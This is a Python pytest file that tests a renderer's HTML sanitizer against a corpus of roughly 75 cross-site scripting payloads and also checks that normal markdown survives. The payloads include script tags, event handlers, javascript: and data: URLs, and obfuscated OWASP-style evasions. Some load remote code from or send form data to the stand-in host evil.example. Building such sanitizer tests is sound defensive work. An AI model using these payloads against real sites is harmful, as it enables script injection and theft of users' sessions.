"""The reader's sanitizer: hostile HTML never reaches the view; good markup does."""

from html.parser import HTMLParser

import pytest

from trainer.content.render import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_markdown, sanitize_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    '<img src="http://evil.example/track.png">',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="evil.swf"></object>',
    '<embed src="evil.swf">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width: expression(alert(1))">x</p>',
    "<style>body{background:url(http://evil.example/x)}</style>",
    '<form action="https://evil.example"><input name="pin"><button>go</button></form>',
    '<body onload="alert(1)">x</body>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<base href="http://evil.example/">',
    '<math><mtext><script>alert(1)</script></mtext></math>',
    '<a href="  javascript:alert(1)">space-padded</a>',
    '<details open ontoggle="alert(1)">x</details>',
    '<video><source onerror="alert(1)"></video>',
    '[md link](javascript:alert(1))',
    '![remote image](https://evil.example/pixel.png)',
    # OWASP XSS filter evasion style
    '<IMG SRC="javascript:alert(\'XSS\');">',
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
    '<IMG SRC=# onmouseover="alert(\'xxs\')">',
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">entity link</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">hex link</a>',
    '<a href="jav&#x09;ascript:alert(\'XSS\');">tab link</a>',
    '<a href="jav&#x0A;ascript:alert(\'XSS\');">newline link</a>',
    '<a href=" &#14;  javascript:alert(\'XSS\');">padded link</a>',
    '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    '<SCRIPT SRC=//evil.example/.j>',
    '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
    '<iframe src=http://evil.example/scriptlet.html <',
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
    '<IMG DYNSRC="javascript:alert(\'XSS\')">',
    '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
    '<svg/onload=alert(\'XSS\')>',
    '<BGSOUND SRC="javascript:alert(\'XSS\');">',
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<STYLE>@import\'http://evil.example/xss.css\';</STYLE>',
    '<META HTTP-EQUIV="Link" Content="<http://evil.example/xss.css>; REL=stylesheet">',
    '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
    '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
    '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
    '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
    '<DIV STYLE="width: expression(alert(\'XSS\'));">',
    '<BASE HREF="javascript:alert(\'XSS\');//">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
    '<!--[if gte IE 4]><SCRIPT>alert(\'XSS\');</SCRIPT><![endif]-->',
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
    '<a href="data:text/html,<script>alert(1)</script>">data html</a>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<math href="javascript:alert(1)">CLICKME</math>',
    '<a href="https://ok.example" onclick="alert(1)" style="position:fixed">styled link</a>',
    '[ref]: javascript:alert(1)\n\n[reference link][ref]',
    '<http://evil.example/autolink> is fine as text, <javascript:alert(1)> is not a link',
]

class _Tags(HTMLParser):
    """Every real tag and attribute in sanitized output (escaped text is not a tag)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def _tags(html: str) -> list[tuple[str, dict]]:
    parser = _Tags()
    parser.feed(html)
    return parser.tags


@pytest.mark.parametrize("snippet", HOSTILE)
def test_hostile_snippet_is_defused(snippet):
    html = render_markdown(f"Before\n\n{snippet}\n\nAfter")
    for tag, attrs in _tags(html):
        assert tag in ALLOWED_TAGS, (tag, snippet, html)
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}
        assert set(attrs) <= allowed, (tag, attrs, snippet, html)
        target = (attrs.get("href") or "").strip().lower()
        if target:  # links only to the web or mail, never scripts, data or files
            assert target.startswith(("http://", "https://", "mailto:")), (target, snippet, html)
    # Nothing executable survives even as a dangling fragment of a real tag.
    assert "<script" not in html.lower() and "<style" not in html.lower()
    # Text before survives; an unclosed <script> may swallow what follows, which is safe.
    assert "Before" in html


def test_corpus_is_big_enough():
    assert len(HOSTILE) >= 60


def test_good_markup_is_kept():
    html = render_markdown(
        "# Title\n\n## Section\n\nSome *emphasis* and **strong** text.\n\n"
        "- one\n- two\n\n1. first\n2. second\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "[SAMHSA](https://www.samhsa.gov) and [plain](http://example.org) and [mail](mailto:a@b.org)\n\n"
        "> a quote\n"
    )
    for part in ("<h1>Title</h1>", "<h2>Section</h2>", "<em>emphasis</em>", "<strong>strong</strong>",
                 "<ul>", "<ol>", "<li>one</li>", "<table>", "<th>a</th>", "<td>2</td>", "<blockquote>",
                 'href="https://www.samhsa.gov"', 'href="http://example.org"', 'href="mailto:a@b.org"'):
        assert part in html, (part, html)


def test_sanitize_keeps_text_of_dropped_wrappers():
    assert "hello" in sanitize_html("<font color=red>hello</font>")
